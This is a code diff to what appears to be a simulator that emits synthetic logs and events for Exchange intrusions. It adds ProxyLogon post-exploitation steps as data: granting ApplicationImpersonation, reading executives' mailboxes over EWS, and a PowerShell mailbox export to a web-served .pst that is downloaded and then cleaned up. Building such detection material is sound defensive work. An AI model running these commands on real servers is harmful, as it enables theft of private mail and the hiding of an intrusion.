@@ -28,6 +28,21 @@ export interface Step {
   /** Seconds after the intrusion starts. */
   at: number;
   run(emit: Emit, time: number): Evidence[];
+  /** Traces no rule tells from ordinary traffic (mail read with stolen credentials): spoor mail-access finds them, by the intruder's address. */
+  foundBy?: 'mail-access';
+  /** The mailboxes the step reaches, and over which seconds after the step's start. */
+  mailboxes?: { mailbox: string; how: string; from: number; to: number }[];
+}
+
+/** Whose mail the ProxyLogon intruder takes: the chief executive's and the finance director's read over EWS, the general counsel's exported. */
+export const VICTIM_MAILBOXES = { ceo: 'user007@corp.example', cfo: 'user042@corp.example', counsel: 'user113@corp.example' };
+
+/** The EWS Managed API's user agent (what scripts reading mail over EWS send). */
+const EWS_CLIENT = 'ExchangeServicesClient/15.00.0913.015';
+
+/** EWS calls reading a mailbox through impersonation: the X-AnchorMailbox header names it, and HttpProxy logs it. */
+function ewsReads(emit: Emit, t: number, mailbox: string, seconds: readonly number[]): Evidence[] {
+  return seconds.flatMap((d) => emit.request({ time: t + d * 1000, method: 'POST', stem: '/EWS/Exchange.asmx', query: '', user: 'CORP\\administrator', clientIp: ATTACKER_IPS.shell, userAgent: EWS_CLIENT, status: 200, timeTaken: 300 + (d % 7) * 40, protocol: 'Ews', anchorMailbox: `Smtp~${mailbox}`, authType: 'Negotiate' }));
 }
 
 export const INTRUSIONS = ['proxylogon', 'proxyshell', 'proxynotshell'] as const;
@@ -136,6 +151,36 @@ export function intrusionSteps(kind: Intrusion, s: Server, shellName: string): S
             sysmon(emit, processCreate(at(t), 'C:\\ProgramData\\7za.exe', 'C:\\ProgramData\\7za.exe a C:\\ProgramData\\out.7z C:\\ProgramData\\lsass.dmp', 'C:\\Windows\\System32\\cmd.exe', 'NT AUTHORITY\\SYSTEM', 6530)),
             emit.file('ProgramData/out.7z', Buffer.concat([Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4]), Buffer.alloc(2048, 0x5a)]), t + 20000),
           ],
+        },
+        {
+          id: 'impersonation-role', at: 880, cves: [], techniques: ['T1098'],
+          description: 'With the administrator\'s password from the LSASS dump, the ApplicationImpersonation role is given to the administrator, to open any mailbox over EWS',
+          run: (emit, t) => [emit.event('MSExchange Management', mgmtEvent(s, t, 'New-ManagementRoleAssignment', '-Role "ApplicationImpersonation" -User "administrator"'))],
+        },
+        {
+          id: 'mailbox-read-ews', at: 900, cves: [], techniques: ['T1114.002'], foundBy: 'mail-access',
+          description: 'Two executives\' mailboxes are read over EWS with impersonation (the EWS Managed API) from the shell\'s address: folders listed, items found and fetched',
+          mailboxes: [
+            { mailbox: VICTIM_MAILBOXES.ceo, how: 'EWS', from: 0, to: 240 },
+            { mailbox: VICTIM_MAILBOXES.cfo, how: 'EWS', from: 420, to: 610 },
+          ],
+          run: (emit, t) => [...ewsReads(emit, t, VICTIM_MAILBOXES.ceo, [0, 3, 9, 31, 62, 118, 180, 240]), ...ewsReads(emit, t, VICTIM_MAILBOXES.cfo, [420, 424, 451, 530, 610])],
+        },
+        {
+          id: 'mailbox-export', at: 1500, cves: [], techniques: ['T1114.002', 'T1059.001'],
+          description: 'Through the shell, PowerShell with Exchange\'s snap-in exports the general counsel\'s mailbox to a .pst in aspnet_client, which is then downloaded',
+          mailboxes: [{ mailbox: VICTIM_MAILBOXES.counsel, how: 'export', from: 0, to: 2 }],
+          run: (emit, t) => {
+            const pst = `${shellName}.pst`;
+            const script = `Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn; New-MailboxExportRequest -Mailbox ${VICTIM_MAILBOXES.counsel} -FilePath \\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\${pst}`;
+            return [
+              sysmon(emit, processCreate(at(t), 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', `powershell.exe -Command "${script}"`, 'C:\\Windows\\System32\\cmd.exe', 'NT AUTHORITY\\SYSTEM', 7012)),
+              emit.event('MSExchange Management', mgmtEvent(s, t + 2000, 'New-MailboxExportRequest', `-Mailbox "${VICTIM_MAILBOXES.counsel}" -FilePath "\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\${pst}"`)),
+              emit.file(`${WEB.aspnetClient}/${pst}`, Buffer.concat([Buffer.from('!BDN', 'latin1'), Buffer.alloc(8192, 0x11)]), t + 95_000),
+              ...emit.request(req(t + 140_000, { method: 'GET', stem: `/aspnet_client/${pst}`, clientIp: ATTACKER_IPS.shell, userAgent: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:86.0) Gecko/20100101 Firefox/86.0', timeTaken: 2400 })),
+              emit.event('MSExchange Management', mgmtEvent(s, t + 160_000, 'Remove-MailboxExportRequest', `-Identity "${VICTIM_MAILBOXES.counsel}\\MailboxExport" -Confirm "False"`)),
+            ];
+          },
         },
       ];
     case 'proxyshell': {
